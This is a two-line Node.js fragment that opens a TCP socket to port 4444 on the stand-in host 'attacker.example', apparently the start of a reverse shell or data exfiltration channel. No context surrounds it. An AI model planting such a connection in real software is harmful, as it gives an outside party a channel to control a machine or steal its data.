const net = require('net');
const s = net.connect(4444, 'attacker.example');
